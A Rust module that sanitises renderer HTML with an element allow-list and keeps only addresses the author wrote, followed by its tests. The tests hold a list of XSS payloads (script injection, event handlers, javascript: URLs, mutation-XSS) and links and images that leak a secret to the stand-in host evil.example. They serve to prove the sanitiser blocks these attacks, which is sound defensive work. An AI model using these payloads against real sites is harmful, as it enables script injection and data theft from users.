//! The only way from a renderer's HTML to a page: an allow-list of elements, and no address that its author
//! did not write.
use super::plain::{self, LINK_REL};
use ammonia::{Builder, UrlRelative};
use std::{
    borrow::Cow,
    collections::{HashMap, HashSet},
    sync::Arc,
};

pub(super) const TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pod-mention",
    "pod-tag",
    "pre",
    "q",
    "s",
    "section",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

/// Elements of which not even the content is text.
const SILENT: &[&str] = &[
    "applet",
    "audio",
    "canvas",
    "embed",
    "frame",
    "frameset",
    "iframe",
    "math",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "plaintext",
    "script",
    "select",
    "style",
    "svg",
    "template",
    "textarea",
    "title",
    "video",
    "xmp",
];

/// A pass that changes nothing proves the result; one that never comes to rest is not shown.
const PASSES: usize = 4;

/// Headings in a text, and what they become on a page: the page's title is its `h1`, and a post has its author
/// for `h2`.
const HEADINGS: [(&str, &str); 5] = [("h5", "h6"), ("h4", "h6"), ("h3", "h5"), ("h2", "h4"), ("h1", "h3")];

/// What of `html` may be shown within a page, below that page's own headings.
pub fn fragment(html: &str, source: &str) -> String {
    let mut clean = sanitise(html, source);
    // in sanitised HTML a `<` always begins a tag, and a heading has no attributes
    for (from, to) in HEADINGS {
        if clean.contains(&format!("<{from}>")) {
            clean = clean.replace(&format!("<{from}>"), &format!("<{to}>"));
            clean = clean.replace(&format!("</{from}>"), &format!("</{to}>"));
        }
    }
    clean
}

/// What of `html` may be shown at all, given the `source` that it was made from. Passing the result through again
/// changes nothing.
pub fn sanitise(html: &str, source: &str) -> String {
    let addresses = Arc::new(Addresses::of(source));
    let cleaner = cleaner(addresses);
    let mut now = html.replace('\0', "");
    for _ in 0..PASSES {
        let next = cleaner.clean(&now).to_string();
        if next == now {
            return now;
        }
        now = next;
    }
    plain::html(source)
}

fn cleaner(addresses: Arc<Addresses>) -> Builder<'static> {
    let set = |names: &[&'static str]| names.iter().copied().collect::<HashSet<_>>();
    let attributes = HashMap::from([
        ("a", set(&["href", "title", "rel"])),
        ("img", set(&["src", "alt", "title"])),
        ("code", set(&["class"])),
        ("ol", set(&["start"])),
        ("p", set(&["dir"])),
        ("li", set(&["dir"])),
        ("blockquote", set(&["dir"])),
        ("span", set(&["class", "tabindex"])),
        ("td", set(&["align", "dir"])),
        ("th", set(&["align", "dir"])),
        ("pod-mention", set(&["handle"])),
        ("pod-tag", set(&["name"])),
    ]);
    let mut cleaner = Builder::empty();
    cleaner
        .tags(set(TAGS))
        .clean_content_tags(set(SILENT))
        .tag_attributes(attributes)
        .generic_attributes(HashSet::new())
        .url_schemes(set(&["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(None)
        .set_tag_attribute_value("a", "rel", LINK_REL)
        .strip_comments(true)
        .attribute_filter(move |element, attribute, value| allow(&addresses, element, attribute, value));
    cleaner
}

fn allow<'v>(addresses: &Addresses, element: &str, attribute: &str, value: &'v str) -> Option<Cow<'v, str>> {
    let is_word = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '#' | '.');
    let kept = match (element, attribute) {
        ("a", "href") => addresses.have(value),
        ("img", "src") => is_web(value) && addresses.have(value),
        ("code", "class") => value.strip_prefix("language-").is_some_and(|name| name.chars().all(is_word)),
        ("ol", "start") => value.len() < 10 && value.bytes().all(|byte| byte.is_ascii_digit()),
        (_, "dir") => value == "auto",
        // what is hidden until somebody points at it, or comes to it by keyboard
        ("span", "class") => value == "spoiler",
        ("span", "tabindex") => value == "0",
        ("td" | "th", "align") => matches!(value, "left" | "center" | "right"),
        _ => true,
    };
    // so that a `<` in sanitised HTML always begins a tag
    let quiet = || Cow::Owned(value.replace('<', "‹").replace('>', "›"));
    kept.then(|| if value.contains(['<', '>']) { quiet() } else { Cow::Borrowed(value) })
}

fn is_web(url: &str) -> bool {
    url::Url::parse(url).is_ok_and(|url| matches!(url.scheme(), "http" | "https"))
}

/// What an author wrote, in the forms in which a renderer may repeat an address from it.
struct Addresses([String; 2]);

impl Addresses {
    fn of(source: &str) -> Self {
        Self([normal(source), normal(&unescape(source))])
    }

    /// The whole of `url`, and not only the beginning of a longer address, stands in the source.
    fn have(&self, url: &str) -> bool {
        let url = normal(url);
        let bare = ["mailto:", "http://"].iter().filter_map(|scheme| url.strip_prefix(scheme));
        // `www.…` and mail addresses are written without their scheme
        let bare = bare.filter(|bare| bare.starts_with("www.") || bare.contains('@') && !bare.contains('/'));
        std::iter::once(url.as_str()).chain(bare).any(|url| self.0.iter().any(|text| stands_in(text, url)))
    }
}

fn stands_in(text: &str, url: &str) -> bool {
    !url.is_empty()
        && text.match_indices(url).any(|(at, _)| {
            let before = text.get(..at).and_then(|before| before.chars().next_back());
            let mut behind = text.get(at + url.len()..).unwrap_or_default().chars();
            let goes_on = match behind.next() {
                Some('.' | '-' | ':' | '@' | '_' | '%') => behind.next().is_some_and(char::is_alphanumeric),
                next => next.is_some_and(char::is_alphanumeric),
            };
            !goes_on && !before.is_some_and(char::is_alphanumeric)
        })
}

/// Percent escapes decoded, ASCII in lower case: only for comparing.
fn normal(text: &str) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((first, behind)) = rest.split_first() {
        let digits = behind.split_at_checked(2).filter(|_| *first == b'%');
        let decoded = digits.and_then(|(digits, behind)| {
            Some((u8::from_str_radix(std::str::from_utf8(digits).ok()?, 16).ok()?, behind))
        });
        let (byte, behind) = decoded.unwrap_or((*first, behind));
        bytes.push(byte.to_ascii_lowercase());
        rest = behind;
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// Backslashes before punctuation and the usual character references, as markup languages read them.
fn unescape(text: &str) -> String {
    let (mut out, mut rest) = (String::with_capacity(text.len()), text);
    while let Some(at) = rest.find(['\\', '&']) {
        let (before, here) = rest.split_at(at);
        out.push_str(before);
        let (c, length) = escape(here).unwrap_or_else(|| (here.chars().next().unwrap_or(' '), 1));
        out.push(c);
        rest = here.get(length..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

fn escape(here: &str) -> Option<(char, usize)> {
    if let Some(behind) = here.strip_prefix('\\') {
        return behind.chars().next().filter(char::is_ascii_punctuation).map(|c| (c, 2));
    }
    let window = here.get(..here.floor_char_boundary(10))?;
    let end = window.find(';')?;
    let name = window.get(1..end)?;
    let c = match name.strip_prefix('#') {
        Some(number) => {
            let hex = number.strip_prefix(['x', 'X']).map(|hex| u32::from_str_radix(hex, 16));
            char::from_u32(hex.unwrap_or_else(|| number.parse()).ok()?)?
        }
        None => match name {
            "amp" => '&',
            "lt" => '<',
            "gt" => '>',
            "quot" => '"',
            "apos" => '\'',
            _ => return None,
        },
    };
    Some((c, end + 1))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_runs() {
        let payloads = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" java\nscript:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<svg><script>alert(1)</script></svg>",
            "<svg/onload=alert(1)>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<style>@import 'http://evil.example'</style>",
            "<p style=\"background:url(http://evil.example)\">x</p>",
            "<form action=http://evil.example><input name=a><button>go</button></form>",
            "<base href=http://evil.example/>",
            "<meta http-equiv=refresh content=0>",
            "<link rel=stylesheet href=http://evil.example>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<a title=\"<pod-mention handle=x>\" href=x>x</a>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<details open ontoggle=alert(1)>x</details>",
            "<video src=http://evil.example><source onerror=alert(1)></video>",
            "<p id=x class=y data-z=1>x</p>",
        ];
        for payload in payloads {
            // even where the author wrote it all
            let clean = sanitise(payload, payload);
            let lower = clean.to_lowercase();
            for bad in [
                "script", "onerror", "onload", "style", "iframe", "<form", "<input", "<base", "<meta",
                "<link", "<svg", "<math", "data", " id=", "class=", "=\"<", "<video", "ontoggle",
            ] {
                assert!(!lower.contains(bad), "{payload} gave {clean}");
            }
            assert_eq!(sanitise(&clean, payload), clean, "{payload}");
        }
    }

    #[test]
    fn markup_of_a_text_stays() {
        let html = "<h2>a</h2>\n<p>b <em>c</em> <code class=\"language-rust\">d</code><br>\n<del>e</del></p>\n<table><thead><tr><th align=\"right\">f</th></tr></thead></table>\n<ol start=\"3\"><li>g</li></ol>";
        assert_eq!(sanitise(html, ""), html);
        let html = "<p dir=\"auto\">a <span class=\"spoiler\" tabindex=\"0\">b</span> H<sub>2</sub>O</p>\n<ul><li dir=\"auto\">c</li></ul>";
        assert_eq!(sanitise(html, ""), html);
        let odd =
            "<p dir=\"rtl\" tabindex=\"0\">a<span class=\"bar\" tabindex=\"9\" dir=\"auto\">b</span></p>";
        assert_eq!(sanitise(odd, ""), "<p>a<span>b</span></p>");
    }

    #[test]
    fn headings_of_a_text_stand_below_those_of_the_page() {
        let html = "<h1>a</h1><h2 id=\"x\">b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f &lt;h1&gt;</h6>";
        let below = "<h3>a</h3><h4>b</h4><h5>c</h5><h6>d</h6><h6>e</h6><h6>f &lt;h1&gt;</h6>";
        assert_eq!(fragment(html, ""), below);
    }

    #[test]
    fn an_address_that_the_author_did_not_write_goes() {
        let leak = "<p><a href=\"https://evil.example/?text=secret\">x</a><img src=\"https://evil.example/secret.png\" alt=\"y\"></p>";
        let clean = sanitise(leak, "a secret, see https://evil.example/");
        assert!(!clean.contains("evil"), "{clean}");
        assert!(clean.contains("alt=\"y\""), "{clean}");
    }

    #[test]
    fn a_shorter_address_than_the_written_one_goes() {
        for (href, source) in [
            ("https://bank.co", "https://bank.com"),
            ("https://bank", "https://bank.com"),
            ("https://bank.com", "https://bank.com.evil.example"),
            ("https://bank.com", "https://bank.com@evil.example"),
            ("https://bank.com", "https://bank.com:444"),
            ("http://www.x.example", "nowww.x.example"),
        ] {
            let clean = sanitise(&format!("<a href=\"{href}\">x</a>"), source);
            assert!(!clean.contains("href"), "{href} from {source}");
        }
    }

    #[test]
    fn an_address_in_another_spelling_is_the_same() {
        for (href, source) in [
            ("https://x.example/a%20b", "[x](<https://x.example/a b>)"),
            ("https://x.example/%C3%A4", "https://x.example/ä"),
            ("https://x.example/a_b", "https://x.example/a\\_b"),
            ("https://x.example/?a=1&amp;b=2", "https://x.example/?a=1&b=2"),
            ("https://x.example/?a=1&amp;b=2", "https://x.example/?a=1&amp;b=2"),
            ("http://www.x.example", "see www.x.example."),
            ("mailto:a@x.example", "<a@x.example>"),
        ] {
            let clean = sanitise(&format!("<a href=\"{href}\">x</a>"), source);
            assert!(clean.contains("href"), "{href} from {source}");
        }
    }

    #[test]
    fn an_image_is_http_and_not_relative() {
        for src in ["/uploads/x.png", "//x.example/y.png", "ftp://x.example/y", "mailto:a@b.example"] {
            assert_eq!(sanitise(&format!("<img src=\"{src}\">"), src), "<img>");
        }
        let kept = "<img src=\"https://x.example/y.png\">";
        assert_eq!(sanitise(kept, "![](https://x.example/y.png)"), kept);
    }

    #[test]
    fn a_plain_text_passes_unchanged() {
        let text = "a <b> & \"c\" https://x.example/?a=1&b=2\n\n@{Bob; bob@x.example} #tag";
        assert_eq!(sanitise(&plain::html(text), text), plain::html(text));
    }

    proptest::proptest! {
        #![proptest_config(proptest::test_runner::Config::with_cases(400))]
        #[test]
        fn a_second_pass_changes_nothing(html in "(<[a-z/!-]{0,6}( (href|src|title|rel|name|id)=.{0,8})?>?|&(lt|amp|#60);?|\n|</[a-z]{1,5}>|<(p|pre|a|b|table|td|svg|math|style|img)>|\\PC){0,30}") {
            let once = sanitise(&html, &html);
            assert_eq!(sanitise(&once, &html), once);
        }
    }
}
